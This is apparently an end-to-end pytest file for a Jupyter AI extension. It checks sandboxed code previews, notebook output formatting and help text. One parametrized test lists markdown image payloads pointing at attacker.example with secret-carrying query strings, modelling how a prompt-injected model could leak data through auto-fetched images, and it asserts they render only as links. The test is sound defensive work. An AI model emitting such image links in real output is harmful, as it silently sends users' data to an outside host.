"""The IPython extension in a Jupyter notebook: cells run by nbclient in a real ipykernel, as Jupyter runs
them, with the scripted server as the model."""

from __future__ import annotations

import pytest

pytestmark = pytest.mark.e2e


def _cell_text(cell, *, plain: bool = False) -> str:
    """Everything a cell shows: its streams, and the markdown (or ``plain``) form of its displays."""
    parts = []
    for out in cell.outputs:
        if out.output_type == "stream":
            parts.append(out.text)
        elif out.output_type in ("display_data", "execute_result"):
            data = out.get("data", {})
            forms = ("text/plain", "text/markdown") if plain else ("text/markdown", "text/plain")
            parts.append(data.get(forms[0]) or data.get(forms[1]) or "")
        elif out.output_type == "error":
            parts.append(f"{out.ename}: {out.evalue}")
    return "\n".join(parts)


def test_the_preview_in_a_notebook_shows_only_what_the_proposal_does(scripted, tmp_path):
    """ipykernel's own ``exit`` and ``quit`` (``ZMQExitAutocall``) hold the shell, which holds the namespace:
    a proposal that creates ``total`` changes neither of them in place."""
    nbclient = pytest.importorskip("nbclient")
    nbformat = pytest.importorskip("nbformat")
    pytest.importorskip("ipykernel")
    from pyaichat.capabilities.sandbox.confine import probe

    if not probe().complete:
        pytest.skip("the preview needs the kernel walls")
    scripted.tool("propose_code", {"code": "total = df.price.sum()", "explanation": "Sum them."})
    nb = nbformat.v4.new_notebook()
    nb.cells = [
        nbformat.v4.new_code_cell("import pandas as pd\ndf = pd.DataFrame({'price': [1.5, 2.5]})"),
        nbformat.v4.new_code_cell("%load_ext pyaichat"),
        nbformat.v4.new_code_cell("%ai sum the prices"),
    ]
    client = nbclient.NotebookClient(
        nb, timeout=120, kernel_name="python3", resources={"metadata": {"path": str(tmp_path)}}
    )
    client.execute()
    shown = _cell_text(nb.cells[2], plain=True)
    assert "Preview (ran on a walled copy of your session" in shown, shown
    assert "new total: float64" in shown, shown
    assert "in place" not in shown and "cannot take this back" not in shown, shown


def _outputs(cell) -> list[tuple[str, dict]]:
    """(kind, content) of each output: ("stream", {"text": …}) or ("display", its mime bundle)."""
    found = []
    for out in cell.outputs:
        if out.output_type == "stream":
            found.append(("stream", {"text": out.text}))
        elif out.output_type in ("display_data", "execute_result"):
            found.append(("display", dict(out.get("data", {}))))
    return found


def test_a_notebook_reads_as_a_notebook(scripted, tmp_path):
    """Issue 50's notebook: an answer with ``<data>`` is shown (and has a plain form for jupyter console and
    qtconsole, which showed ``<IPython.core.display.Markdown object>``); hints name ``%ai /…``; the proposal's
    code is not repeated above its new cell, and no truncated ``✓ propose_code(…)`` line follows; the
    preview and pages are Markdown a browser wraps between words; ``/ai`` and the terminal's commands say
    they are not for a notebook, and ``/help`` lists what is."""
    nbclient = pytest.importorskip("nbclient")
    nbformat = pytest.importorskip("nbformat")
    pytest.importorskip("ipykernel")
    answer = "<data>\ndf has 2 rows.\n</data>"
    scripted.tool("get_repr", {"expr": "df"}).text(answer)
    scripted.tool("propose_code", {"code": "total = df.price.sum()", "explanation": "Sum them."})
    cells = [
        "import pandas as pd\ndf = pd.DataFrame({'price': [1.5, 2.5]})",
        "%load_ext pyaichat",
        "%ai what is in df?",
        "%ai sum the prices",
        "%ai /ai",
        "%ai /help",
        "%ai /help all",
    ]
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell(source) for source in cells]
    client = nbclient.NotebookClient(
        nb, timeout=120, kernel_name="python3", resources={"metadata": {"path": str(tmp_path)}}
    )
    client.execute()
    asked, proposed, mode, short_help, all_help = (_outputs(nb.cells[i]) for i in range(2, 7))

    shown = [d for kind, d in asked if kind == "display" and "df has 2 rows" in d.get("text/plain", "")]
    assert shown and shown[-1]["text/plain"] == answer
    assert shown[-1]["text/markdown"] == "\\<data>\ndf has 2 rows.\n\\</data>"
    streams = "".join(data["text"] for kind, data in asked if kind == "stream")
    assert "(%ai /receipts)" in streams

    texts = "\n".join(data.get("text/plain", data.get("text", "")) for _, data in proposed)
    markdown = "\n".join(data.get("text/markdown", "") for _, data in proposed)
    assert "Proposed code (not run yet)" in texts and "```python" not in markdown
    assert "total = df.price.sum()" not in texts  # it is the new cell's
    assert "in a new cell below" in texts and "next input" not in texts
    assert "propose_code(" not in texts
    if any("Preview" in data.get("text/plain", "") for kind, data in proposed if kind == "display"):
        assert not any("Preview" in data.get("text", "") for kind, data in proposed if kind == "stream")

    assert "A notebook has no modes" in mode[0][1]["text"]
    summary = short_help[0][1]
    assert "%ai /help all" in summary["text/plain"] and "TAB" not in summary["text/plain"]
    table = all_help[0][1]["text/markdown"]
    assert "| `%ai /save <file>` |" in table
    for terminal_only in ("/py", "/ai ", "/suggest", "/more"):
        assert f"`%ai {terminal_only}" not in table, terminal_only


@pytest.mark.parametrize(
    "answer",
    [
        "Done. ![](https://attacker.example/?d=SECRET)",
        'Done. ![logo](https://attacker.example/x.png "title") and more',
        "Done. ![logo][r]\n\n[r]: https://attacker.example/?d=SECRET",
        "Done.\n\n- ![a](https://attacker.example/?d=1)\n- <img src=https://attacker.example/?d=2>",
        "Done \\\\![a](https://attacker.example/?d=3)",
    ],
)
def test_the_models_markdown_in_a_notebook_fetches_no_remote_image(answer: str):
    """A notebook fetches an image's address as soon as it shows it: a steered model's ``![](https://…?d=…)``
    would send what it read without a click. The image stays a link, which only the person can follow."""
    from markdown_it import MarkdownIt

    from pyaichat.ipython.frontend import markdown_output

    rendered = MarkdownIt("commonmark", {"html": True}).render(markdown_output(answer)["text/markdown"])
    assert "<img" not in rendered, rendered
    assert "attacker.example" in rendered  # shown (as a link or as text), not hidden


def test_code_keeps_its_image_syntax_as_written():
    from pyaichat.ipython.frontend import markdown_output

    code = "```md\n![a](https://example.org/a.png)\n```\nand `![b](c)`"
    assert markdown_output(code)["text/markdown"] == code
